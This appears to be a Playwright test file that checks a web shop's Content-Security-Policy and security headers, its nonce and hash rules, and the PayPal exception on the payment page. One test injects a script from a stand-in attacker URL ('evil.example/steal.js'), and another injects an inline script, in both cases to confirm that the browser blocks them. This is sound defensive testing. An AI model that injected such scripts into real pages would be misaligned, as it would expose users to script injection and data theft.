import { HERO } from "@/lib/content/landing";
import { PRICE } from "@/lib/money";

import { PUBLIC_PAGES } from "./support/public-pages";
import { fixture, paypalButton } from "./support/shop";
import { expect, expectProvokedViolation, test } from "./support/test";

/** A Content-Security-Policy on every response; PayPal's hosts only where its buttons are. */
const PAYPAL_HOSTS = ["https://*.paypal.com", "https://*.paypalobjects.com", "https://*.venmo.com"];

function directives(policy: string | undefined): Map<string, string[]> {
  const map = new Map<string, string[]>();
  for (const part of (policy ?? "").split(";")) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (name) map.set(name, values);
  }
  return map;
}

test("every page and API answer carries the policy; PayPal (here, its simulator) is allowed on /payment only", async ({ request }) => {
  const simulator = new URL(fixture.simulatorsUrl).origin;
  for (const path of [...PUBLIC_PAGES.map((p) => p.path), "/download", "/download/resend", "/admin/login", "/api/health", "/no-such-page"]) {
    const response = await request.get(path, { maxRedirects: 0 });
    const csp = directives(response.headers()["content-security-policy"]);
    expect(csp.get("default-src"), path).toEqual(["'self'"]);
    expect(csp.get("object-src"), path).toEqual(["'none'"]);
    expect(csp.get("base-uri"), path).toEqual(["'self'"]);
    expect(csp.get("form-action"), path).toEqual(["'self'"]);
    expect(csp.get("frame-ancestors"), path).toEqual(["'none'"]);
    expect(csp.get("script-src"), path).not.toContain(simulator);
    expect(csp.get("frame-src"), path).toEqual(["'none'"]);
    expect(response.headers()["cross-origin-opener-policy"], path).toBe("same-origin");
    expect(response.headers()["x-content-type-options"], path).toBe("nosniff");
    expect(response.headers()["x-frame-options"], path).toBe("DENY");
    expect(response.headers()["referrer-policy"], path).toBe("strict-origin-when-cross-origin");
    // Served over plain http: no HSTS (it would pin a host that has no https).
    expect(response.headers()["strict-transport-security"], path).toBeUndefined();
  }
  const payment = await request.get("/payment");
  const csp = directives(payment.headers()["content-security-policy"]);
  for (const name of ["script-src", "connect-src", "frame-src", "img-src"]) expect(csp.get(name), name).toContain(simulator);
  // Demo mode: the simulator stands in for PayPal, whose hosts are not needed.
  for (const host of PAYPAL_HOSTS) expect(csp.get("script-src")).not.toContain(host);
  expect(payment.headers()["cross-origin-opener-policy"]).toBe("same-origin-allow-popups");
});

test("HSTS when the visitor came over https (as the trusted proxy reports)", async ({ request }) => {
  const response = await request.get("/", { headers: { "x-forwarded-proto": "https" } });
  expect(response.headers()["strict-transport-security"]).toMatch(/^max-age=\d{8,}/);
  expect(directives(response.headers()["content-security-policy"]).has("upgrade-insecure-requests")).toBe(true);
});

test("the browser enforces the policy: a script from elsewhere is blocked and reported", async ({ page, cspViolations }) => {
  await page.goto("/");
  const loaded = await page.evaluate(
    () =>
      new Promise<boolean>((resolve) => {
        const script = document.createElement("script");
        script.src = "https://evil.example/steal.js";
        script.onload = () => resolve(true);
        script.onerror = () => resolve(false);
        document.head.append(script);
      }),
  );
  expect(loaded).toBe(false);
  // Seen and checked: the automatic guard of every test would otherwise fail this one.
  await expectProvokedViolation(cspViolations, { page: "/", directive: "script-src-elem", blocked: "https://evil.example/steal.js" });
});

/** Pages the strict script policy covers, prerendered (whole) and rendered per request (streamed), and two that do not exist. */
const PRERENDERED = [...PUBLIC_PAGES.map((p) => p.path as string), "/redeem", "/discord/linked/linked"];
const RENDERED = [
  "/download",
  "/download?access=not-a-token",
  "/download/resend",
  "/gift",
  "/admin/login",
  "/affiliate",
  "/affiliate/login",
  "/account",
  "/no-such-page",
];

test("every page's script-src allows no inline script but its own: hashes when it comes whole, a nonce when rendered now", async ({ request }) => {
  for (const path of [...PRERENDERED, ...RENDERED]) {
    let sent: { etag?: string; scriptSrc: string[] } | undefined;
    for (const method of ["GET", "HEAD"] as const) {
      const response = await request.fetch(path, { method, maxRedirects: 0 });
      const scriptSrc = directives(response.headers()["content-security-policy"]).get("script-src") ?? [];
      expect(scriptSrc[0], `${method} ${path}`).toBe("'self'");
      expect(scriptSrc, `${method} ${path}`).not.toContain("'unsafe-inline'");
      expect(scriptSrc, `${method} ${path}`).not.toContain("'strict-dynamic'");
      expect(
        scriptSrc.slice(1).every((source) => /^'(nonce-[A-Za-z0-9+/]{22}==|sha256-[A-Za-z0-9+/]{43}=)'$/.test(source)),
        `${method} ${path}: ${scriptSrc.join(" ")}`,
      ).toBe(true);
      expect(response.headers()["reporting-endpoints"], path).toBe('csp="/api/csp-report"');
      expect(directives(response.headers()["content-security-policy"]).get("report-to"), path).toEqual(["csp"]);
      // A GET of a prerendered page names its scripts' hashes; a HEAD of the same body (its ETag) the same ones.
      const hashes = scriptSrc.filter((source) => source.startsWith("'sha256-"));
      if (method === "GET" && PRERENDERED.includes(path)) expect(hashes.length, path).toBeGreaterThan(0);
      if (method === "GET") sent = { etag: response.headers()["etag"], scriptSrc: hashes };
      else if (sent?.etag && sent.etag === response.headers()["etag"]) expect(hashes, `HEAD ${path}`).toEqual(sent.scriptSrc);
    }
  }
  // The payment page keeps PayPal's 'unsafe-inline' (docs/decisions.md), and so carries no hash or nonce, which would void it.
  const payment = directives((await request.get("/payment")).headers()["content-security-policy"]).get("script-src") ?? [];
  expect(payment).toContain("'unsafe-inline'");
  expect(payment.join(" ")).not.toMatch(/nonce-|sha256-/);
});

test("a script injected into a page does not run, prerendered or rendered now", async ({ page, cspViolations }) => {
  for (const path of ["/", "/download/resend"]) {
    await page.goto(path);
    await expect.poll(() => page.evaluate(() => Boolean((window as unknown as { next?: unknown }).next))).toBe(true);
    const ran = await page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "window.__injected = true;";
      document.body.append(script);
      return (window as unknown as { __injected?: boolean }).__injected === true;
    });
    expect(ran, path).toBe(false);
    await expectProvokedViolation(cspViolations, { page: path, directive: "script-src-elem", blocked: "inline" });
  }
});

test("a visitor who clicks through to /payment gets PayPal's buttons: the page loads with its own policy", async ({ page }) => {
  await page.goto("/");
  await page
    .getByRole("link", { name: HERO.cta(PRICE) })
    .first()
    .click();
  await expect(page).toHaveURL(/\/payment$/);
  // A client-side navigation would keep the landing page's policy, which does not allow PayPal's script.
  await expect(paypalButton(page)).toBeVisible();
});
